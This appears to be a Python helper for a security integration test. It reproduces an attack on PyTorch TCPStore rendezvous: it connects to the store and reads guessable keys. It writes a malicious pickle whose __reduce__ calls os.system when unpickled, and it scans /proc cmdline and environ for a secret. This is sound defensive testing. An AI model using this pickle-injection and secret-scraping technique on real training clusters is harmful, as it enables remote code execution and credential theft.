"""The attack of issue 25, as another local account would run it against a live run (run by
tests/integration/test_store_attack.py under ``runuser -u nobody``; not a test module).

For every address given it: sends junk bytes on a raw connection; then connects as a plain TCPStore
client and, where that works, reads the keys an attacker can guess (the rendezvous state under
its public id, runyard's and torch's worker prefixes), and writes the rendezvous state under its
public id as a pickle that would create ``--payload-file`` when unpickled. It also tries to read
the secret where a local user could find it: every process's command line and environment.

Prints one JSON object: per port what connected, what it read, what it wrote.
"""

from __future__ import annotations

import argparse
import base64
import faulthandler
import json
import os
import pickle
import socket
import sys
import threading
from datetime import timedelta
from typing import Any

from torch.distributed import TCPStore


class Payload:
    """Runs ``touch PATH`` when unpickled (the forged rendezvous state)."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.path}",)


def guessable_keys(rdzv_id: str) -> list[str]:
    return [
        f"torch.rendezvous.{rdzv_id}",
        f"torch.rendezvous.{rdzv_id}.0/MASTER_ADDR",
        "runyard/attempt_0/default_pg/0//0",
        "/worker/attempt_0/default_pg/0//0",
        "default_pg/0//0",
    ]


def connect(store_class: Any, host: str, port: int, result: dict[str, Any]) -> Any:
    """A TCPStore client of ``host:port``, or None. Its handshake waits for an answer without a
    time limit when the other end accepts and stays silent (a gloo listener): a thread waits for
    it at most 5 s, and is left behind (the program ends with os._exit)."""
    box: dict[str, Any] = {}

    def make() -> None:
        try:
            box["store"] = store_class(host, port, is_master=False, timeout=timedelta(seconds=3),
                                       wait_for_workers=False)
        except Exception as exc:  # not a store, or it would not talk
            box["error"] = f"{type(exc).__name__}: {exc}"[:200]

    thread = threading.Thread(target=make, daemon=True)
    thread.start()
    thread.join(5)
    if "store" not in box:
        result["store_error"] = box.get("error", "no answer to a TCPStore handshake in 5 s")
    return box.get("store")


def attack_port(address: str, rdzv_id: str, payload_file: str) -> dict[str, Any]:
    host, _, port_text = address.rpartition(":")
    host, port = host.strip("[]"), int(port_text)
    result: dict[str, Any] = {"address": address, "junk_sent": False, "store": False, "num_keys": None,
                              "read": [], "wrote": []}
    try:
        with socket.create_connection((host, port), timeout=2) as sock:
            sock.sendall(os.urandom(64))
            result["junk_sent"] = True
    except OSError as exc:
        result["junk_error"] = str(exc)
    store = connect(TCPStore, host, port, result)
    if store is None:
        return result
    result["store"] = True
    try:
        result["num_keys"] = int(store.num_keys())
    except Exception as exc:
        result["num_keys_error"] = str(exc)[:200]
    print(f"attacking {address}: a store with {result['num_keys']} keys", file=sys.stderr, flush=True)
    for key in guessable_keys(rdzv_id):
        try:
            if store.check([key]):
                result["read"].append(key)
        except Exception:
            pass
    state = base64.b64encode(pickle.dumps(Payload(payload_file)))
    key = f"torch.rendezvous.{rdzv_id}"
    try:
        store.set(key, state)
        result["wrote"].append(key)
    except Exception as exc:
        result["write_error"] = str(exc)[:200]
    return result


def secret_sightings(pids: list[int], secret_var: str) -> list[str]:
    """Where this account could read the attempt's secret: ``/proc/PID/cmdline`` and ``environ``."""
    seen = []
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    if secret_var.encode() in f.read():
                        seen.append(f"/proc/{pid}/{name}")
            except OSError:
                pass
    return seen


def main() -> None:
    faulthandler.dump_traceback_later(60, exit=True)  # a hang says where
    parser = argparse.ArgumentParser()
    parser.add_argument("--addresses", required=True, help="HOST:PORT,... ([::1]:PORT for IPv6)")
    parser.add_argument("--pids", default="")
    parser.add_argument("--rdzv-id", required=True)
    parser.add_argument("--payload-file", required=True)
    parser.add_argument("--secret-var", required=True)
    args = parser.parse_args()
    addresses = [a for a in args.addresses.split(",") if a]
    pids = [int(p) for p in args.pids.split(",") if p]
    print(json.dumps({
        "uid": os.getuid(),
        "ports": [attack_port(address, args.rdzv_id, args.payload_file) for address in addresses],
        "secret_seen": secret_sightings(pids, args.secret_var),
    }), flush=True)
    os._exit(0)  # a TCPStore handshake may still wait in a thread


if __name__ == "__main__":
    main()
